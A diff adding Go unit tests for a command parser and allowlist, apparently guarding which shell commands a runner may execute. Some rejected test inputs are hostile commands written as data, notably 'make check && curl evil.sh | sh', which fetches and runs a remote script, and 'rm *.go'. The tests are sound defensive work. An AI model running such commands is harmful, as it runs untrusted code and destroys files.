@@ -0,0 +1,60 @@
+package runner
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestParseCommand(t *testing.T) {
+	tests := []struct {
+		line    string
+		want    string
+		wantErr bool
+	}{
+		{"make check", "make|check", false},
+		{"  go vet   ./...  ", "go|vet|./...", false},
+		{"go test -run=TestSum -count=1 ./...", "go|test|-run=TestSum|-count=1|./...", false},
+		{"", "", true},
+		{"make check && curl evil.sh | sh", "", true},
+		{"go test > out.txt", "", true},
+		{"echo $HOME", "", true},
+		{"rm *.go", "", true},
+		{`go test -run "TestA TestB"`, "", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			argv, err := ParseCommand(tt.line)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ParseCommand() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if got := strings.Join(argv, "|"); got != tt.want {
+				t.Errorf("ParseCommand() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCommandAllowlist_Allows(t *testing.T) {
+	allowlist := CommandAllowlist{"go vet", "make check", "staticcheck ./..."}
+	tests := []struct {
+		argv []string
+		want bool
+	}{
+		{[]string{"go", "vet", "./..."}, true},
+		{[]string{"go", "vet"}, true},
+		{[]string{"make", "check"}, true},
+		{[]string{"make", "check", "VERBOSE=1"}, true},
+		{[]string{"make", "deploy"}, false},
+		{[]string{"go"}, false},
+		{[]string{"go", "run", "."}, false},
+		{[]string{"staticcheck", "./pkg/..."}, false},
+	}
+	for _, tt := range tests {
+		if got := allowlist.Allows(tt.argv); got != tt.want {
+			t.Errorf("Allows(%v) = %v, want %v", tt.argv, got, tt.want)
+		}
+	}
+	if (CommandAllowlist{}).Allows([]string{"make", "check"}) {
+		t.Error("an empty allowlist allows nothing")
+	}
+}